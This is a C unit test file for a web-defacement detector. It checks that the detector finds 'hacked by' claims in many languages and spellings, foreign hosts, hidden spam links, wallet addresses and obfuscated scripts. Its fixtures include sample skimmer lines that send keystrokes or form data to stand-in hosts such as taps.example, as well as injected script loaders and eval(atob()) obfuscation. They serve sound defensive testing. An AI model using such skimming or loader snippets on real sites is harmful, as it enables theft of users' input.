/* test_look.c - what a page looks like: phrases in all their spellings, languages, hosts, scripts, and the look as
 * JSON. */
#include "deface/look.h"

#include "base/text.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

static struct look *look_typed(const char *html, const char *type)
{
	struct page page = {
		.body = text_span(html), .type = type, .url = "https://www.town.example.jp/x/", .status = 200
	};
	struct look *look = look_new(&page);

	assert_non_null(look);
	return look;
}

static struct look *look_of(const char *html)
{
	return look_typed(html, "text/html; charset=utf-8");
}

/* Points of the heaviest phrase of a class. */
static unsigned points_of(const char *html, enum phrase_class class)
{
	struct look *look = look_of(html);
	unsigned most = 0;

	for (unsigned n = 0; n < look->hit_count; n++)
		if (look->hits[n].class == class && look->hits[n].points > most)
			most = look->hits[n].points;
	look_free(look);
	return most;
}

static void claims_in_all_spellings_are_found(void **state)
{
	static const char *const pages[] = {
		"<title>Hacked by X</title>",
		"<h1>HACKED  BY&nbsp;someone</h1>",
		"<h1>H4ck3d By someone</h1>",
		"<h1>h a c k e d   b y   z</h1>",
		"<h1>HackedBy someone</h1>",
		"<h1>-=[ Hacked_By x ]=-</h1>",
		"<h1>H&#97;cked by x</h1>",
		"<h1>ＨＡＣＫＥＤ ＢＹ ｘ</h1>",
		"<h1>Hácked bý x</h1>",
		"<h1>このサイトはハッキングされました</h1>",
		"<h1>Сайт взломан!</h1>",
		"<h1>САЙТ ЗЛАМАНО</h1>",
		"<h1>Bu site tarafımızdan... tarafından HACKLENDİ</h1>",
		"<h1>Diretas oleh x</h1>",
		"<h1>Hackeado por x</h1>",
		"<h1>تم اختراق الموقع</h1>",
		"<h1>هک شد</h1>",
		"<h1>此网站已被黑</h1>",
		"<script>document.write('<h1>Hacked by x</h1>')</script>",
		"<script>document.write(unescape('%3Ch1%3EHacked%20by%20x%3C/h1%3E'))</script>",
		"<script>document.body.innerHTML=atob('PGgxPkhhY2tlZCBieSB4PC9oMT4=')</script>", /* "<h1>Hacked by
												    x</h1>" */
		"<script>document.title='Hack'+'ed by x'</script>",
	};

	(void)state;
	for (size_t n = 0; n < COUNT(pages); n++)
		if (points_of(pages[n], PHRASE_CLAIM) < 35)
			fail_msg("not found: %s (%u)", pages[n], points_of(pages[n], PHRASE_CLAIM));
}

static void news_of_others_weigh_little(void **state)
{
	static const char *const pages[] = {
		"<p>The web site of a ministry was hacked by a group that is not known, the police said on Monday.</p>",
		"<h3><a href=\"/news/1\">Ministry's site hacked by activists</a></h3>",
		"<li><a href=\"/n/2\">Hacked by a teenager: how a town lost its page</a></li>",
		"<p>○○省のサイトがハッキングされました。原因を調べています。</p>",
		"<p>Shacked by the sea</p>",
		"<h1>Hackers: what they want</h1>",
		"<h1>Hacked? First steps</h1>",
		"<script>var news={\"title\":\"Hacked by teenagers: a story\",\"id\":7}</script>",
	};

	(void)state;
	for (size_t n = 0; n < COUNT(pages); n++)
		if (points_of(pages[n], PHRASE_CLAIM) > 15)
			fail_msg("too heavy: %s (%u)", pages[n], points_of(pages[n], PHRASE_CLAIM));
}

/* The same headline in a menu, a list and a footer is one. */
static void what_stands_there_often_weighs_no_more(void **state)
{
	static const char once[] = "<li><a href=/n/1>Ministry hacked by somebody</a>";
	char often[4096] = "";

	(void)state;
	for (unsigned n = 0; n < 40; n++)
		text_append(often, sizeof(often), "%s", once);
	assert_int_equal(points_of(often, PHRASE_CLAIM), points_of(once, PHRASE_CLAIM));
	assert_true(points_of(once, PHRASE_CLAIM) > 0);
}

static void languages_are_told_by_letters_and_little_words(void **state)
{
	static const struct {
		enum tongue tongue;
		const char *text;
	} samples[] = {
		{ TONGUE_EN, "This is the page of the town, and we are here for you with all that you need." },
		{ TONGUE_FR, "Nous sommes dans la ville avec une équipe qui est là pour vous et les autres." },
		{ TONGUE_DE, "Wir sind in der Stadt und für die Menschen da, die nicht allein sein wollen." },
		{ TONGUE_TR, "Bu sayfa bizim için çok önemli ve sizin için de bir haber var." },
		{ TONGUE_ID, "Halaman ini adalah untuk anda dan kami yang tidak akan pergi dari kota ini." },
		{ TONGUE_PT, "A página não é do governo e você não pode ver os dados da nossa cidade com eles." },
		{ TONGUE_JA, "町の皆さまへのお知らせです。" },
		{ TONGUE_ZH, "市民们请注意以下通知内容请携带证件前往市政府办理有关手续如有疑问请与服务台联系谢谢" },
		{ TONGUE_KO, "주민 여러분께 알려 드립니다" },
		{ TONGUE_RU, "Мы рады приветствовать вас на нашей странице" },
		{ TONGUE_UK, "Ми раді вітати вас на нашій сторінці, її відкрили" },
		{ TONGUE_AR, "مرحبا بكم في موقع البلدية" },
		{ TONGUE_FA, "به پایگاه شهرداری خوش آمدید، گزارش‌های تازه را "
			     "ببینید" },
	};

	(void)state;
	for (size_t n = 0; n < COUNT(samples); n++) {
		struct tongues tongues = { 0 };
		uint16_t share[TONGUES];

		tongues_add(&tongues, text_span(samples[n].text));
		assert_true(tongues_share(&tongues, share) > 0);
		if (share[samples[n].tongue] < 900)
			fail_msg("%s: %s", tongue_code(samples[n].tongue), samples[n].text);
	}
}

static bool has_host(const struct look *look, enum host_use use, const char *name)
{
	for (unsigned n = 0; n < look->host_count; n++)
		if (look->hosts[n].use == use && !strcmp(look->hosts[n].name, name))
			return true;
	return false;
}

static void hosts_of_others_are_kept_and_ours_are_not(void **state)
{
	static const char *const own[] = { "static.example.net", NULL };
	struct page page = { .type = "text/html", .url = "https://www.town.example.jp/", .status = 200, .own = own };
	struct look *look;

	(void)state;
	page.body = text_span(
		"<script src=/a.js></script><script src=//cdn.town.example.jp/a.js></script>"
		"<script src=https://static.example.net/b.js></script><script "
		"src='https:\\\\evil.example\\x.js'></script>"
		"<iframe src=http://192.0.2.7:8080/></iframe><form action=//evil.example></form>"
		"<meta http-equiv=refresh content='0;URL=https://away.example/'>"
		"<script>window.location.replace('https://gone.example/')</script>"
		"<script>location.protocol=='https:'?'https://no.example':''</script>"
		"<script>var s=document.createElement('script');s.src='https://more.example/m.js'</script>"
		"<div style='display:none'><a href=https://spam.example/>x</a></div><a href=/home>home</a>");
	look = look_new(&page);
	assert_non_null(look);
	assert_true(has_host(look, USE_SCRIPT, "evil.example"));
	assert_true(has_host(look, USE_SCRIPT, "more.example"));
	assert_true(has_host(look, USE_FRAME, "192.0.2.7"));
	assert_true(has_host(look, USE_FORM, "evil.example"));
	assert_true(has_host(look, USE_REFRESH, "away.example"));
	assert_true(has_host(look, USE_REFRESH, "gone.example"));
	assert_true(has_host(look, USE_HIDDEN_LINK, "spam.example"));
	assert_int_equal(look->host_count, 7);
	assert_int_equal(look->links_own, 1);
	look_free(look);
}

static void what_scripts_put_together_leads_somewhere(void **state)
{
	static const struct {
		const char *script;
		enum host_use use;
		const char *host; /* NULL: none of that use */
	} samples[] = {
		{ "var a='https://',b='cdn.example.top';var s=document.createElement('script');s.src=a+b+'/x.js'",
		  USE_SCRIPT, "cdn.example.top" },
		{ "location=['htt','ps:/','/'+d+'.example.top'].join('')", USE_REFRESH, "example.top" },
		{ "location.href='https://'+location.host;x.on('click.menu.open')", USE_REFRESH, NULL },
		{ "s=document.createElement('script');s.src='https://'+h;x.on('click.menu.open')", USE_SCRIPT, NULL },
		{ "document.onkeyup=function(e){k+=e.key;new Image().src='//taps.example/?'+k}", USE_FORM,
		  "taps.example" },
		{ "f.addEventListener('submit',function(){navigator.sendBeacon(atob('aHR0cHM6Ly90YXBzLmV4YW1wbGUvYQ==')"
		  ","
		  "new FormData(f))})",
		  USE_FORM, "taps.example" },
		{ "var "
		  "u=[104,116,116,112,58,47,47,110,46,101,120,97,109,112,108,101].map(n=>String.fromCharCode(n)).join('"
		  "');"
		  "var s=document.createElement('script');s.src=u",
		  USE_SCRIPT, "n.example" },
		/* owners' own: a page for phones, https, a counter's old program, a form that is sent by a script */
		{ "location.replace('https://m.'+location.host)", USE_REFRESH, NULL },
		{ "location.href='https:'+location.href.substring(5)", USE_REFRESH, NULL },
		{ "location.href='https://'+location.host+'/a'", USE_REFRESH, NULL },
		{ "s=document.createElement('script');s.src=('https:'==p?'https://ssl':'http://www')+x", USE_SCRIPT,
		  NULL },
		{ "f.addEventListener('submit',function(){fetch('/api',{body:new FormData(f)})})", USE_FORM, NULL },
	};
	char html[1024];

	(void)state;
	for (size_t n = 0; n < COUNT(samples); n++) {
		struct look *look;
		unsigned count = 0;

		snprintf(html, sizeof(html), "<script>%s</script>", samples[n].script);
		look = look_of(html);
		for (unsigned i = 0; i < look->host_count; i++)
			count += look->hosts[i].use == samples[n].use;
		if (samples[n].host ? !has_host(look, samples[n].use, samples[n].host) : count > 0)
			fail_msg("%s: %u", samples[n].script, count);
		look_free(look);
	}
}

static void what_nobody_sees_is_hidden(void **state)
{
	static const struct {
		const char *tag; /* around the link */
		bool hidden;
	} samples[] = {
		{ "<div style='font-size:0'>", true },
		{ "<div style='height:0;overflow:hidden'>", true },
		{ "<div style='position:absolute;left:-5000px'>", true },
		{ "<p style='color:#fff;background:#fff'>", true },
		{ "<noscript>", true },
		{ "<div style='font-size:0.9em'>", false },
		{ "<div style='left:-10px'>", false },
		{ "<div style='height:0'>", false },
		{ "<p style='color:#fff;background:#000'>", false },
	};
	char html[256];

	(void)state;
	for (size_t n = 0; n < COUNT(samples); n++) {
		struct look *look;

		snprintf(html, sizeof(html), "%s<a href=https://spam.example/>x</a>", samples[n].tag);
		look = look_of(html);
		if (has_host(look, USE_HIDDEN_LINK, "spam.example") != samples[n].hidden)
			fail_msg("%s", html);
		look_free(look);
	}
}

static unsigned dress_of(const char *html)
{
	struct look *look = look_of(html);
	unsigned dress = look->dress;

	look_free(look);
	return dress;
}

static void styles_that_write_over_the_page_are_seen(void **state)
{
	(void)state;
	assert_true(dress_of("<style>body > * {display:none!important}</style>") & DRESS_STYLED);
	assert_true(dress_of("<style>html:after{position:fixed;inset:0;content:'All yours'}</style>") & DRESS_STYLED);
	assert_true(points_of("<style>body:before{content:'Hacked by x'}</style>", PHRASE_CLAIM) >= 35);
	assert_true(dress_of("<div style='position:fixed;inset:0'>x</div>") & DRESS_COVERED);
	assert_int_equal(dress_of("<style>body{display:none}.a:before{content:'\\f101';position:fixed}</style>"), 0);
	assert_int_equal(dress_of("<style>a:after{content:' (external)'}</style><div style='position:fixed'>x</div>"),
			 0);
}

static void purses_and_digits_for_letters_are_known(void **state)
{
	(void)state;
	assert_true(points_of("<p>Pay to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</p>", PHRASE_PURSE) > 0);
	assert_true(points_of("<p>1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>", PHRASE_PURSE) > 0);
	assert_true(points_of("<p>0x52908400098527886E0F7030069857D2E4169EE7</p>", PHRASE_PURSE) > 0);
	assert_int_equal(
		points_of("<p>d41d8cd98f00b204e9800998ecf8427e abc1234567890123456789012345</p>", PHRASE_PURSE), 0);
	assert_true(points_of("<p>t0uch3d by the Sh4dow cr3w0f</p>", PHRASE_MARK) > 0);
	assert_int_equal(points_of("<p>mp3player for B2B, log4j and i18n, a3f5c7d9</p>", PHRASE_MARK), 0);
}

static void pages_say_that_they_are_out_of_order(void **state)
{
	static const struct {
		const char *html;
		enum page_state page_state;
	} samples[] = {
		{ "<title>Index of /</title>", STATE_LISTING },
		{ "<h1>メンテナンス中です</h1>", STATE_MAINTENANCE },
		{ "<h1>502 Bad Gateway</h1>", STATE_ERROR },
		{ "<p>This domain is for sale</p>", STATE_PARKING },
		{ "<title>Welcome to nginx!</title>", STATE_DEFAULT },
		{ "<title>Just a moment...</title>", STATE_CHALLENGE },
		{ "<p>Our index of prices</p>", STATE_NONE },
	};

	(void)state;
	for (size_t n = 0; n < COUNT(samples); n++) {
		struct look *look = look_of(samples[n].html);

		assert_int_equal(look->state, samples[n].page_state);
		look_free(look);
	}
}

static void charsets_are_read_as_said(void **state)
{
	/* "日本" in Shift_JIS, told by the header or by the page */
	struct look *by_header = look_typed("<title>\x93\xfa\x96\x7b</title>", "text/html; charset=Shift_JIS");
	struct look *by_page = look_typed("<meta charset=shift_jis><title>\x93\xfa\x96\x7b</title>", "text/html");
	struct look *euc = look_typed("<title>\xc6\xfc\xcb\xdc</title>", "text/html; charset=\"euc-jp\"");

	(void)state;
	assert_string_equal(by_header->title, "日本");
	assert_string_equal(by_page->title, "日本");
	assert_string_equal(euc->title, "日本");
	look_free(by_header);
	look_free(by_page);
	look_free(euc);
}

static void numbers_change_no_shingle(void **state)
{
	struct look *one = look_of("<p>Visitor 12,345 since the first of May 2024 at our page</p>");
	struct look *two = look_of("<p>Visitor 99,801 since the first of May 2026 at our page</p>");
	struct look *other = look_of("<p>Visitors have no number since the second of June at your page</p>");

	(void)state;
	assert_true(one->sketch_count > 3);
	assert_int_equal(one->sketch_count, two->sketch_count);
	assert_memory_equal(one->sketch, two->sketch, one->sketch_count * sizeof(one->sketch[0]));
	assert_int_equal(one->text, two->text);
	assert_int_not_equal(one->text, other->text);
	look_free(one);
	look_free(two);
	look_free(other);
}

static void scripts_that_hide_what_they_do_are_counted(void **state)
{
	static const struct {
		const char *html;
		unsigned hidden;
	} samples[] = {
		{ "<script>window.dataLayer=[];gtag('js',new Date())</script>", 0 },
		{ "<script>document.write('<p>hello</p>')</script>", 0 },
		{ "<script>eval(atob('YWxlcnQoMSk7YWxlcnQoMSk7YWxlcnQoMSk7YWxlcnQoMSk7YWxlcnQoMSk7'))</script>", 1 },
		{ "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41,59,97,108,101,114,116,40,49,41,59,97,"
		  "108,101,114,"
		  "116,40,49,41,59))</script>",
		  1 },
		{ "<script type=\"application/json\">{\"eval(\":\"atob(fromCharCode\"}</script>", 0 },
	};

	(void)state;
	for (size_t n = 0; n < COUNT(samples); n++) {
		struct look *look = look_of(samples[n].html);

		if (look->script_hidden != samples[n].hidden)
			fail_msg("%u: %s", look->script_hidden, samples[n].html);
		look_free(look);
	}
}

/* All that a look can hold, and letters that JSON makes longer. */
static void the_largest_look_fits_and_comes_back(void **state)
{
	size_t size = 1 << 20, used = 0;
	char *html = malloc(size), *json, *second;
	struct look *look, *again;

	(void)state;
	assert_non_null(html);
	*html = '\0';
	for (unsigned n = 0; used + 1024 < size; n++)
		used += (size_t)snprintf(html + used, size - used,
					 "<title>\"\"\"\"\"\\\\\\\x01</title><h1>Hacked by "
					 "\"%c%c\"\\\\\\\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"</h1><p>"
					 "\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\""
					 "\"\"\"\"\"\"\"\"\"w%c%c%c%c"
					 "</p><script src=//h%u.%0200u.example></script><script>var x%c=%u</script>",
					 'a' + n % 26, 'a' + n / 26 % 26, 'a' + n % 26, 'a' + n / 26 % 26,
					 'a' + n / 676 % 26, 'a' + n % 7, n, n, 'a' + n % 26, n);
	look = look_of(html);
	assert_int_equal(look->block_count, LOOK_BLOCKS);
	assert_int_equal(look->hit_count, LOOK_HITS);
	json = look_json(look);
	assert_non_null(json);
	assert_true(strlen(json) < LOOK_JSON);
	again = look_read(json);
	assert_non_null(again);
	assert_memory_equal(again->sketch, look->sketch, sizeof(look->sketch));
	assert_string_equal(again->title, look->title);
	assert_int_equal(again->host_count, look->host_count);
	second = look_json(again);
	assert_string_equal(json, second);
	free(json);
	free(second);
	free(html);
	look_free(look);
	look_free(again);
}

static void what_is_no_look_is_none(void **state)
{
	(void)state;
	assert_null(look_read(""));
	assert_null(look_read("[]"));
	assert_null(look_read("{\"look\":2}"));
	assert_null(look_read("{\"look\":1"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(claims_in_all_spellings_are_found),
		cmocka_unit_test(news_of_others_weigh_little),
		cmocka_unit_test(what_stands_there_often_weighs_no_more),
		cmocka_unit_test(languages_are_told_by_letters_and_little_words),
		cmocka_unit_test(hosts_of_others_are_kept_and_ours_are_not),
		cmocka_unit_test(what_scripts_put_together_leads_somewhere),
		cmocka_unit_test(what_nobody_sees_is_hidden),
		cmocka_unit_test(styles_that_write_over_the_page_are_seen),
		cmocka_unit_test(purses_and_digits_for_letters_are_known),
		cmocka_unit_test(pages_say_that_they_are_out_of_order),
		cmocka_unit_test(charsets_are_read_as_said),
		cmocka_unit_test(numbers_change_no_shingle),
		cmocka_unit_test(scripts_that_hide_what_they_do_are_counted),
		cmocka_unit_test(the_largest_look_fits_and_comes_back),
		cmocka_unit_test(what_is_no_look_is_none),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
